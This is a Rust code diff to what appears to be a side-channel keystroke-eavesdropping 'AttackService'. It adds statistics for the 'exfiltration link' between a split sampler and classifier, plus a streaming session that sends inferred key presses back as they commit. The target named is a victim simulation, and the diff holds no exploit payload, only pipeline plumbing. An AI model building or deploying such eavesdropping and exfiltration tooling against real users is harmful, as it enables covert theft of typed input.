@@ -154,6 +154,67 @@ impl fmt::Display for DegradationReport {
     }
 }
 
+/// How much the session was degraded by the *exfiltration link*, when the
+/// sampler and classifier ran as separate processes over a lossy transport
+/// (see the `wire` crate). All-zero — the [`Default`] — for in-process
+/// sessions, so folding it into [`SessionResult`] leaves the streaming ≡
+/// batch equivalence untouched.
+#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
+pub struct LinkDegradationReport {
+    /// Data frames transmitted, including retransmissions.
+    pub frames_sent: u64,
+    /// Frames retransmitted after an ack timeout.
+    pub retransmits: u64,
+    /// Frames the transport dropped in flight.
+    pub frames_dropped: u64,
+    /// Frames the receiver discarded as corrupt (CRC mismatch or
+    /// truncation).
+    pub frames_corrupt: u64,
+    /// Duplicate frames the receiver discarded by sequence number.
+    pub duplicates_discarded: u64,
+    /// Frames that arrived out of sequence order and were buffered or
+    /// dropped for resequencing.
+    pub reorders_observed: u64,
+    /// Reconnect-and-resume cycles after the link went down.
+    pub reconnects: u64,
+    /// Payload bytes handed to the transport, including retransmissions.
+    pub bytes_sent: u64,
+    /// Payload bytes the peer cumulatively acknowledged.
+    pub bytes_acked: u64,
+}
+
+impl LinkDegradationReport {
+    /// Whether the link delivered everything first try: nothing dropped,
+    /// corrupted, duplicated, reordered, retransmitted, or reconnected.
+    pub fn is_clean(&self) -> bool {
+        self.retransmits == 0
+            && self.frames_dropped == 0
+            && self.frames_corrupt == 0
+            && self.duplicates_discarded == 0
+            && self.reorders_observed == 0
+            && self.reconnects == 0
+    }
+}
+
+impl fmt::Display for LinkDegradationReport {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(
+            f,
+            "sent={} retx={} dropped={} corrupt={} dups={} reorders={} reconnects={} \
+             bytes={}/{} acked",
+            self.frames_sent,
+            self.retransmits,
+            self.frames_dropped,
+            self.frames_corrupt,
+            self.duplicates_discarded,
+            self.reorders_observed,
+            self.reconnects,
+            self.bytes_acked,
+            self.bytes_sent,
+        )
+    }
+}
+
 /// The result of one eavesdropping session.
 #[derive(Debug, Clone, PartialEq)]
 pub struct SessionResult {
@@ -185,6 +246,9 @@ pub struct SessionResult {
     /// (partial trace, lost windows) rather than failing the session; this
     /// report says by how much.
     pub degradation: DegradationReport,
+    /// What the exfiltration link survived, when the session ran split
+    /// across a transport (all-zero for in-process sessions).
+    pub link: LinkDegradationReport,
 }
 
 impl SessionResult {
@@ -218,6 +282,9 @@ struct PostRecognition<'s> {
     switch_events: Vec<SwitchEvent>,
     infer_events: Vec<InferEvent>,
     correction_sink: Vec<CorrectionEvent>,
+    /// Accepted presses not yet drained by a streaming consumer (the wire
+    /// layer's classifier server streams these back as they commit).
+    fresh_keys: Vec<InferredKey>,
 }
 
 impl<'s> PostRecognition<'s> {
@@ -246,6 +313,7 @@ impl<'s> PostRecognition<'s> {
             switch_events: Vec::new(),
             infer_events: Vec::new(),
             correction_sink: Vec::new(),
+            fresh_keys: Vec::new(),
         }
     }
 
@@ -282,6 +350,9 @@ impl<'s> PostRecognition<'s> {
     fn route_infer_events(&mut self, infer_events: &mut Vec<InferEvent>) {
         let mut sink = std::mem::take(&mut self.correction_sink);
         for ev in infer_events.drain(..) {
+            if let InferEvent::Key { key, .. } = &ev {
+                self.fresh_keys.push(*key);
+            }
             self.correction.push(ev, &mut sink);
         }
         // Correction events are re-read from the stage at the end of the
@@ -380,6 +451,14 @@ impl<'s> Pipeline<'s> {
         self.recognized = recognized;
     }
 
+    /// Moves accepted presses not yet seen by a streaming consumer into
+    /// `out` (empty until the device is recognised).
+    fn drain_new_keys(&mut self, out: &mut Vec<InferredKey>) {
+        if let Some(post) = &mut self.post {
+            out.append(&mut post.fresh_keys);
+        }
+    }
+
     /// Flushes the pipeline and assembles the session result.
     fn finish(mut self, report: &SamplerReport) -> Result<SessionResult, ServiceError> {
         let mut deltas = std::mem::take(&mut self.deltas);
@@ -418,6 +497,7 @@ fn assemble_result(output: PipelineOutput<'_>, degradation: DegradationReport) -
         switches: output.switches,
         launch_at: output.launch_at,
         degradation,
+        link: LinkDegradationReport::default(),
     }
 }
 
@@ -437,6 +517,12 @@ impl AttackService {
     /// The preloaded model store.
     pub fn store(&self) -> &ModelStore {
         &self.store
+    }
+
+    /// The service configuration (the wire layer's split driver shares the
+    /// sampler half with its on-device client).
+    pub fn config(&self) -> &ServiceConfig {
+        &self.config
     }
 
     /// Eavesdrops the victim simulation until `until` and recovers the
@@ -617,11 +703,53 @@ impl AttackService {
         trace: &Trace,
         report: &SamplerReport,
     ) -> Result<SessionResult, ServiceError> {
-        let mut pipeline = Pipeline::new(&self.store, &self.config);
+        let mut session = self.streaming_session();
         for s in trace.iter() {
-            pipeline.push_sample(s);
+            session.push_sample(s);
         }
-        pipeline.finish(report)
+        session.finish(report)
+    }
+
+    /// Begins an incremental analysis session: the push-based half of
+    /// [`AttackService::eavesdrop`], decoupled from the sampler so a remote
+    /// process (the wire layer's classifier server) can feed it samples as
+    /// they arrive off a transport.
+    pub fn streaming_session(&self) -> StreamingSession<'_> {
+        StreamingSession { pipeline: Pipeline::new(&self.store, &self.config) }
+    }
+}
+
+/// An in-flight incremental analysis session (see
+/// [`AttackService::streaming_session`]).
+///
+/// Push samples in timestamp order, drain freshly committed presses at any
+/// point (the wire layer streams them back to the sampler side for latency
+/// measurement), and finish with the sampler's report to assemble the
+/// [`SessionResult`].
+pub struct StreamingSession<'s> {
+    pipeline: Pipeline<'s>,
+}
+
+impl StreamingSession<'_> {
+    /// Feeds one counter sample through the stage pipeline.
+    pub fn push_sample(&mut self, sample: Sample) {
+        self.pipeline.push_sample(sample);
+    }
+
+    /// Moves presses committed since the last drain into `out`. The full
+    /// per-session sequence equals `keys_before_corrections` of the final
+    /// result (corrections are only applied at session end).
+    pub fn drain_new_keys(&mut self, out: &mut Vec<InferredKey>) {
+        self.pipeline.drain_new_keys(out);
+    }
+
+    /// Flushes every stage and assembles the session result.
+    ///
+    /// # Errors
+    ///
+    /// Same contract as [`AttackService::process_trace`].
+    pub fn finish(self, report: &SamplerReport) -> Result<SessionResult, ServiceError> {
+        self.pipeline.finish(report)
     }
 }
 
